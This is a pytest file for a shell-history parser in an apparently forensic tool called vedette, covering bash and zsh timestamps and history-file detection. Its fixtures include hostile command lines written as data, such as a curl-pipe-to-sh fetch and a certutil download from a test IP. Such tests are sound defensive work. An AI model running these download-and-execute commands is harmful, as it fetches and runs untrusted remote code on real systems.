from __future__ import annotations

import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.abc.source import Origin
from vedette.sources.shell_history import ShellHistory


def _read(data: bytes) -> list[tuple[datetime, str]]:
    written = datetime(2026, 2, 1, tzinfo=UTC)
    batches = ShellHistory(Origin("x", modified=written)).read(io.BytesIO(data))
    return [row for b in batches for row in b.frame.select("time", "process.cmd_line").rows()]


def test_times_of_bash_and_zsh_are_read() -> None:
    bash = _read(b"ls\n#1767600000\nwhoami\r\nid -u\n\n")
    assert [line for _, line in bash] == ["ls", "whoami", "id -u"]
    assert [t.year for t, _ in bash] == [2026, 2026, 2026]
    assert bash[0][0] == datetime(2026, 2, 1, tzinfo=UTC)
    assert bash[1][0] == bash[2][0] == datetime(2026, 1, 5, 8, tzinfo=UTC)
    assert _read(b": 1767600000:0;curl -s http://192.0.2.7/x | sh\n") == [
        (datetime(2026, 1, 5, 8, tzinfo=UTC), "curl -s http://192.0.2.7/x | sh")
    ]


@pytest.mark.parametrize(
    ("head", "name", "found"),
    [
        (b"ls -l\ncd /tmp\nvim a.txt\n", "", True),
        (b"C:\\Windows\\System32\\certutil.exe -urlcache -f http://192.0.2.7/a\nwhoami /all\n", "", True),
        (b"whoami\n", "commands.txt", True),
        (b"whoami\n", "", False),  # one line alone tells nothing
        (b"find a good place to eat in town\nmake sure to be there\nlast of all\n", "notes.txt", False),
        (b"2026-01-05 08:00:00 INFO cat fed\n2026-01-05 08:00:01 INFO dog fed\n", "commands.txt", False),
        (b'{"cmd": "ls -l"}\n', ".bash_history", False),
        (b"", ".bash_history", False),
    ],
)
def test_what_is_taken_for_a_history(head: bytes, name: str, found: bool) -> None:
    assert ShellHistory.sniff(head, name) is found


@given(st.binary(max_size=400))
def test_anything_is_read_to_the_end(data: bytes) -> None:
    lines = [line for _, line in _read(data)]
    assert all(lines)


def test_the_last_time_is_carried_on() -> None:
    assert ShellHistory.preamble(b"#1767600000\nls\n#1767600042\n") == b"#1767600042\n"
    assert ShellHistory.preamble(b": 1767600000:0;ls\ncat x\n") == b"#1767600000\n"
    assert ShellHistory.preamble(b"ls #1767600000\necho : 1767600000:0;\n") == b""
